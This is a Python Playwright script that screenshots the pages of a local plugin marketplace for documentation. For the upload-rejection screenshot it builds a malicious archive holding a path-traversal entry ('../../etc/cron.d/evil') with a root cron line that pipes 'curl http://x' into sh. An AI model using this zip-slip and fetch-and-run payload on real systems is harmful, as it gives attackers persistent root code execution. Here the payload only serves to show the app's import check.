"""Screenshots of the marketplace pages into docs/screenshots/ (marketplace, pack, upload verdict, review, workers).

Runs against a server that already holds the story of frontend/src/packs/__fixtures__/record_pack_samples.py
(users admin, alice, bob; packs vignette and shady), e.g. daphne on 127.0.0.1:8131 with the import check on:
  .venv/bin/python frontend/e2e/pack_screenshots.py [base url]
It adds two more active packs by alice (trusted) when they are missing, so the marketplace has a few cards.
"""

from __future__ import annotations

import sys
import tempfile
import zipfile
from pathlib import Path

import requests
from playwright.sync_api import sync_playwright

from workers import cli
from workers.packs.build import build_pack

BASE = sys.argv[1] if len(sys.argv) > 1 else "http://127.0.0.1:8131"
OUT = Path(__file__).resolve().parents[2] / "docs" / "screenshots"
PASSWORD = "pw-12345678-long"
CHROMIUM = "/usr/bin/chromium"
ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
]

EXTRA = [
    ("color_grade", "Color grade", "Curves, levels and LUTs for images.", '["image", "color"]'),
    ("text_kit", "Text kit", "Templates, regex and JSON helpers for text nodes.", '["text", "utils"]'),
]


def csrf_token(s: requests.Session) -> str:
    token = s.cookies["csrftoken"]
    assert token, "the csrftoken cookie has no value"
    return token


def login(username: str) -> requests.Session:
    s = requests.Session()
    s.get(BASE + "/api/auth/csrf")
    s.headers["X-CSRFToken"] = csrf_token(s)
    s.post(BASE + "/api/auth/login", json={"username": username, "password": PASSWORD}).raise_for_status()
    s.headers["X-CSRFToken"] = csrf_token(s)
    return s


def ensure_packs(alice: requests.Session) -> None:
    tmp = Path(tempfile.mkdtemp(prefix="fy-shots-"))
    for name, display, description, categories in EXTRA:
        if alice.get(BASE + f"/api/packs/{name}").status_code == 200:
            continue
        assert cli.main(["pack", "create", name, "--dir", str(tmp)]) == 0
        manifest = tmp / name / "flowyard.toml"
        text = manifest.read_text().replace('publisher = "your-publisher-id"', 'publisher = "alice"')
        lines = []
        for line in text.splitlines():
            if line.startswith("display_name"):
                line = f'display_name = "{display}"'
            elif line.startswith("description"):
                line = f'description = "{description}"'
            elif line.startswith("categories"):
                line = f"categories = {categories}"
            lines.append(line)
        manifest.write_text("\n".join(lines) + "\n")
        archive = build_pack(tmp / name, tmp / "dist")
        with archive.open("rb") as handle:
            r = alice.post(
                BASE + "/api/packs/upload", files={"archive": (archive.name, handle, "application/zip")}
            )
        print(name, r.status_code, r.json().get("message"))


def main() -> None:
    OUT.mkdir(parents=True, exist_ok=True)
    ensure_packs(login("alice"))
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        for user, shots in [
            ("bob", ["marketplace", "pack", "workers"]),
            ("alice", ["upload"]),
            ("admin", ["review"]),
        ]:
            ctx = browser.new_context(viewport={"width": 1400, "height": 900}, base_url=BASE)
            page = ctx.new_page()
            page.goto("/login")
            page.get_by_label("Username").fill(user)
            page.get_by_label("Password").fill(PASSWORD)
            page.get_by_role("button", name="Sign in").click()
            page.wait_for_url(lambda url: "/login" not in url)
            if "marketplace" in shots:
                page.goto("/packs")
                page.get_by_test_id("pack-vignette").wait_for()
                page.screenshot(path=str(OUT / "marketplace.png"))
            if "pack" in shots:
                page.set_viewport_size({"width": 1400, "height": 1350})  # the app scrolls inside .fy-main
                page.goto("/packs/vignette")
                page.get_by_role("heading", name="Versions").wait_for()
                page.get_by_role("button", name="Install 0.2.0").wait_for()
                page.screenshot(path=str(OUT / "pack.png"))
                page.set_viewport_size({"width": 1400, "height": 900})
            if "workers" in shots:
                page.goto("/workers")
                page.locator("table.fy-workers").wait_for()
                page.screenshot(path=str(OUT / "workers.png"))
            if "upload" in shots:
                page.goto("/packs/upload")
                broken = Path(tempfile.mkdtemp()) / "evil-0.1.0.flowyard.zip"
                with zipfile.ZipFile(broken, "w") as z:
                    z.writestr(
                        "flowyard.toml",
                        'name = "evil"\nversion = "0.1.0"\ndisplay_name = "Evil"\ndescription = "x"\n'
                        'publisher = "alice"\nlicense = "MIT"\nsdk_api = ">=1.0,<2"\n',
                    )
                    z.writestr("../../etc/cron.d/evil", "* * * * * root curl http://x | sh\n")
                page.get_by_label("Archive").set_input_files(str(broken))
                page.get_by_role("button", name="Upload").click()
                page.get_by_label("Verdict").wait_for()
                page.screenshot(path=str(OUT / "pack-upload-rejected.png"))
            if "review" in shots:
                page.goto("/packs/review")
                page.get_by_role("button", name="Approve").first.wait_for()
                page.screenshot(path=str(OUT / "pack-review.png"))
            ctx.close()
        browser.close()
    print("screenshots in", OUT)


if __name__ == "__main__":
    main()
